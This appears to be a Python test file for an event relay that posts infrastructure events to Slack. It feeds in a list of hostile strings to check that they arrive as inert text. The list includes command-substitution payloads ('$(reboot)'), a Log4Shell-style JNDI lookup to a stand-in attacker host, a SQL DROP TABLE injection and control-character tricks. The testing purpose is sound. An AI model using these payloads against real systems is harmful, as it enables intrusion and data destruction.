"""Text from outside that wants to be more than text."""

import unittest

import support  # noqa: F401
from harness import hcp
from harness.case import RelayCase
from harness.wait import until

HOSTILE = [
    "<!channel> <@U024BE7LH> <!subteam^SAZ94GDB8> <#C024BE7LR>",
    "<https://evil.example.net|your bank> & &amp; &lt;b&gt;",
    "```code``` *bold* _it_ ~no~ `tick` @here @channel",
    "quotes \" ' \\ and \t tab \r\n newline",
    "{{title}} {{{incident.id}}} {{#workspaces}}x{{/workspaces}} {{> partial}} {{=<% %>=}}",
    "$(reboot) `id` %s%n%x ${jndi:ldap://evil.example.net/a}",
    "'; DROP TABLE events; --",
    "\u202e right to left \u200b zero \ufeff width \u2028 line",
    "\u001b[31mred\u001b[0m \u0007 bell \u0001 control",
    "emoji \U0001f389\U0001f468\u200d\U0001f469\u200d\U0001f467 \u0301\u0301\u0301 marks",
    "level=error msg=ready ingest=1.2.3.4:5 admin=6.7.8.9:10",
    "<" * 400 + "&" * 400,
]


class Hostile(RelayCase):
    wants_slack = True

    def test_hostile_words_everywhere_reach_both_sinks_as_text(self):
        self.start()
        images, prod = "retail-checkout-images", "retail-checkout-prod"
        self.send(hcp.complete(images, "v1"), hcp.assign(images, "v1"), hcp.run_event(prod))
        told = 0
        for number, text in enumerate(HOSTILE):
            self.send(hcp.revoke(f"retail-checkout{number}-images", "v1", reason=text, actor=text[:60]),
                      hcp.run_event(f"{prod}{number}", "errored", message=text, created_by=text[:40]))
            told += 2
            if number % 4 == 3:  # more than ten at once would go as one digest
                until(lambda: len(self.slack.messages) >= told, 60, f"{told} Slack messages")
        until(lambda: len(self.receiver.about("image.revocation")) >= len(HOSTILE), 30)
        until(lambda: len(self.receiver.about("workspace.run_failed")) >= len(HOSTILE), 30)
        reasons = {item["image"]["reason"] for item in self.receiver.about("image.revocation")}
        self.assertIn(HOSTILE[0], reasons)
        self.assertIn(HOSTILE[4], reasons)
        until(lambda: len(self.slack.messages) >= 20, 60, "twenty Slack messages")
        for line in self.relay.lines:
            self.assertNotRegex(line, r"[\x00-\x08\x0b-\x1f\x7f]", "a control byte in the log")
        self.assertEqual(len(self.relay.logged("msg=ready ")), 1)

    def test_huge_and_odd_names_are_cut_and_never_refused_by_slack(self):
        self.start()
        self.send(hcp.revoke("b" * 60, "v1", reason="&<" * 20000))
        self.send(hcp.run_event("w" * 500, "errored", message="\U0001f525" * 5000))
        self.send(hcp.complete("<!here>&amp;" * 20, "<@U1>" * 30))
        until(lambda: len(self.slack.messages) >= 3, 30, "three Slack messages")
        until(lambda: len(self.receiver.documents) >= 3)

    def test_hundreds_of_workspaces_are_cut_with_a_count(self):
        self.config["correlate"].append({"bucket": "every-one", "workspace": "fleet-*"})
        self.start()
        self.send(hcp.complete("every-one", "v1"), hcp.assign("every-one", "v1"))
        self.send(*(hcp.run_event(f"fleet-{number:03}-" + "x" * 60) for number in range(130)))
        self.send(hcp.revoke("every-one", "v1"))
        found = self.document("image.revocation", timeout=20)
        self.assertEqual((len(found["workspaces"]), found["truncated"]["workspaces"]), (100, 130))
        self.assertEqual(found["workspace_counts"]["affected"], 130)
        until(lambda: any("every-one" in text and "130" in text for text in self.slack.texts()), 30)

    def test_wrong_types_in_known_places_do_no_harm(self):
        self.start()
        values = (None, True, 0, -1, 1e300, "", "x", [], {}, [[]], {"name": {"name": []}})
        for payload in (hcp.revoke("retail-odd-images", "v1"), hcp.assign("retail-odd-images", "v1", previous="v0")):
            for key in list(payload["event_payload"]):
                for number, value in enumerate(values):
                    body = {**payload, "event_id": f"packer.event:{payload['event_action']}{key}{number}",
                            "event_payload": {**payload["event_payload"], key: value}}
                    self.assertEqual(self.packer.post(body).status, 200, (key, value))
        for payload in (hcp.run_event("retail-odd-prod", "errored"), hcp.assessment_event("retail-odd-prod")):
            for key in list(payload):
                for value in values:
                    self.assertEqual(self.terraform.post({**payload, key: value}).status, 200, (key, value))
        self.fence("odd")
        self.assertEqual(self.relay.items("events", state="parked"), [])
        until(lambda: self.slack.count() >= 1, 15)


if __name__ == "__main__":
    unittest.main()
